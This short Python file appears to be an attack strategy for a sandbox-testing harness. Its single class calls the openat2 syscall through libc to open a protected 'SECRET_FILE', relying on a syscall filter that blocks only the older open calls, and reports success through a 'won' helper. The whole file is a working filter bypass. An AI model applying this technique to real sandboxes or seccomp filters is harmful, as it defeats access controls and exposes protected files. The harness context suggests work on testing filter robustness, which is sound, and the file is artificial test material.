"""Opens a file by openat2, which a filter of older calls forgets."""

import struct

from victim import SECRET_FILE, libc, number, won

from bgagent.engine.strategy import Strategy


class S(Strategy):
    def init(self):
        how = struct.pack("QQQ", 0, 0, 0)
        won(libc.syscall(number("openat2"), -100, SECRET_FILE.encode(), how, 24))
